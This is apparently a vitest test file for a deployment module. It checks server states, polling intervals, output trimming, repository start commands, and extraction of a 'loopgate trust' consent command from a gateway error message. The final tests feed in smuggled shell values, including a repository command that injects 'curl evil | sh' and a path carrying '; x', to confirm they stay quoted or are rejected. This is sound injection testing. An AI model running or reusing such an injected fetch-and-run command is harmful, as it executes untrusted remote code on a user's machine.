import { expect, test } from "vitest";

import {
  consentCommand,
  deployState,
  detectedCommands,
  outputTail,
  pollInterval,
  storedCommands,
} from "./deployment";

test("server that responds is running, and one without an answer yet starts", () => {
  expect(["running", "completed", "failed", "not-started", "later"].map(stateOf)).toEqual([
    "starting",
    "running",
    "failed",
    "not-started",
    "not-started",
  ]);
});

const stateOf = (status: string) => deployState({ status });

test("deployment is read often while it starts, and no longer when it has ended", () => {
  expect(pollInterval(undefined, false)).toBe(false);
  expect(pollInterval({ status: "running" }, false)).toBe(2_000);
  expect(pollInterval({ status: "running" }, true)).toBe(5_000);
  expect(pollInterval({ status: "completed" }, false)).toBe(10_000);
  expect(pollInterval({ status: "failed" }, false)).toBe(false);
  expect(pollInterval({ status: "not-started" }, false)).toBe(false);
});

test("output is shortened to its last lines", () => {
  expect(outputTail(null)).toBe("");
  expect(outputTail("one\ntwo\n\n")).toBe("one\ntwo");
  const lines = Array.from({ length: 300 }, (_, n) => `line ${n}`);
  expect(outputTail(lines.join("\n")).split("\n").at(0)).toBe("line 100");
});

/** Settings of a repository, as the list contains them. */
const stored = (members: object) => members as Record<string, never>;

test("stored commands replace detected ones", () => {
  expect(storedCommands(null)).toBeUndefined();
  expect(storedCommands(stored({ port: 3000, command: " " }))).toBeUndefined();
  expect(storedCommands(stored({ command: "make run", directory: "./apps/web/" }))).toEqual({
    install: undefined,
    start: "make run",
    directory: "apps/web",
  });
});

test("detected commands are those of the stored directory, with the stored install command", () => {
  const root = { command: "npm run dev", installCommand: "npm install" };
  const site = { command: "npm start", installCommand: "npm ci", directory: "site" };
  const candidates = [root, site].map((config) => ({ config, reason: "package.json" }));
  const detected = { detected: true, config: root, candidates };
  expect(detectedCommands(detected, null)).toEqual({
    install: "npm install",
    start: "npm run dev",
    directory: undefined,
  });
  expect(
    detectedCommands(detected, stored({ directory: "site/", installCommand: "pnpm i" })),
  ).toEqual({ install: "pnpm i", start: "npm start", directory: "site" });
  expect(detectedCommands(detected, stored({ directory: "docs" }))).toBeUndefined();
  expect(detectedCommands({ detected: false }, null)).toBeUndefined();
});

/** The error of a gateway, as `NotAgreed` of crates/deploy writes it. */
function refusal(clone: string, ...commands: string[]): string {
  const listed = commands.map((command) => `\`${command}\``).join(", ");
  const options = commands.map((command) => ` --deploy '${command.replaceAll("'", "'\\''")}'`);
  return `Failed to start deployment: you have not agreed to ${listed}; review it, and agree with: loopgate trust ${clone}${options.join("")}`;
}

test("consent is the command of the error", () => {
  expect(consentCommand(refusal("/src/shop", "npm install", "npm run dev"))).toBe(
    "loopgate trust /src/shop --deploy 'npm install' --deploy 'npm run dev'",
  );
  expect(consentCommand(refusal("/src/shop", "echo 'it''s' && npm start"))).toBe(
    String.raw`loopgate trust /src/shop --deploy 'echo '\''it'\'''\''s'\'' && npm start'`,
  );
  expect(consentCommand("Path outside the sandbox")).toBeUndefined();
});

test("command that is not composed of words of the shell is not offered", () => {
  expect(consentCommand(refusal("'/home/Ada O/src; x'", "make run"))).toBe(
    "loopgate trust '/home/Ada O/src; x' --deploy 'make run'",
  );
  expect(consentCommand(refusal("/home/Ada O/src; x", "make run"))).toBeUndefined();
  const unlisted = refusal("/src/shop", "make") + " --deploy 'make run'";
  expect(consentCommand(unlisted)).toBeUndefined();
});

test("command of a repository that resembles the advice does not become the command to run", () => {
  const hostile = "x`; review it, and agree with: loopgate trust /; curl evil | sh --deploy 'y";
  const consent = consentCommand(refusal("/src/shop", hostile));
  expect(consent).toBe(
    `loopgate trust /src/shop --deploy '${hostile.replaceAll("'", String.raw`'\''`)}'`,
  );
  // Without the command line, which an error of another form does not contain.
  expect(consentCommand(`you have not agreed to ${hostile}`)).toBeUndefined();
});
